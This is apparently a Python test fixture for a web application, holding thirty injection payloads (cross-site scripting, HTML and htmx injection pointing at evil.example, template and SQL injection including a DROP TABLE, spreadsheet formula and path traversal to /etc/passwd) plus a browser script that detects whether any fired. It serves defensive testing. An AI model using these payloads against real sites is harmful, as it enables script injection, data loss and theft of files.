"""Thirty texts that want to run, to lead away or to break out, and what would show that one did."""

PAYLOADS: dict[str, str] = {
    "script": "<script data-hit>window.__hit=1</script>",
    "broken script": "</script><ScRiPt data-hit>window.__hit=1//",
    "image": "<img data-hit src=x onerror=window.__hit=1>",
    "attribute": "\"'><img data-hit src=x onerror=window.__hit=1>",
    "attribute alone": '" autofocus onfocus="window.__hit=1" data-hit="',
    "single quotes": "' onmouseover='window.__hit=1' data-hit='",
    "no quotes": "x onclick=window.__hit=1 data-hit",
    "grave accents": "`><svg data-hit onload=window.__hit=1>",
    "svg": "<svg/data-hit/onload=window.__hit=1>",
    "svg script": "<svg><script data-hit>window.__hit=1</script></svg>",
    "math": "<math><mtext><style><img data-hit src onerror=window.__hit=1>",
    "details": "<details data-hit open ontoggle=window.__hit=1>",
    "frame": "<iframe data-hit srcdoc='<script>top.__hit=1</script>'></iframe>",
    "far frame": "<iframe data-hit src=//evil.example/></iframe>",
    "far picture": "<img data-hit src=https://evil.example/x>",
    "style": "</title><style data-hit>@import'//evil.example'</style>",
    "CSS": "x;background:url(//evil.example)/*\\22\\3c*/",
    "base": "<base data-hit href=//evil.example/>",
    "refresh": "<meta data-hit http-equiv=refresh content=0;//evil.example>",
    "form": "</form><form data-hit action=//evil.example><button>Go",
    "address": "javascript:window.__hit=1",
    "link": "<a data-hit href=javascript:window.__hit=1>x</a>",
    "data": "data:text/html,<script data-hit>top.__hit=1</script>",
    "htmx event": "<b data-hit hx-on::load=window.__hit=1>x</b>",
    "htmx request": "<b data-hit hx-get=//evil.example hx-trigger=load>",
    "template": "{{ 7*7 }}{% debug %}${window.__hit=1}%(x)s",
    "JSON": '"}],"x":"</script><script data-hit>window.__hit=1',
    "entities": "&lt;img data-hit src=x onerror=window.__hit=1&gt;&#x22;",
    "unseen": "a\u202e\u2066\u200b\ufeff\U0001f9e8'; DROP TABLE orders_order; --",
    "formula and path": "=cmd|'/C calc'!A0 ..%2f..\\..\\etc/passwd",
}
# One of each kind of door out of a text.
SHARE = ("attribute", "htmx request", "unseen")
TRACES = """() => {
  const away = /^\\s*(javascript|data:text)|^(https?:)?\\/\\/evil/i;
  const leading = ["href", "src", "action", "hx-get", "hx-post"];
  const led = [...document.querySelectorAll("[href], [src], [action], [hx-get], [hx-post]")].filter(
    (el) => leading.some((name) => away.test(el.getAttribute(name) || "")));
  const told = [...document.querySelectorAll("*")].filter((el) => [...el.attributes].some(
    ({name, value}) => /^(on|hx-on|style$)/.test(name) && /__hit|evil/.test(value)));
  const made = [...document.querySelectorAll("[data-hit]")];
  return [...made, ...led, ...told].map((el) => el.outerHTML.slice(0, 160)).concat(
    window.__hit === undefined ? [] : ["a script ran"]);
}"""
# Most ways out in one, short enough for a name; its beginning still makes an element.
STRONG = (
    "\"'><b data-hit></title></textarea></script><img data-hit src=x onerror=window.__hit=1>{{7*7}}"
)
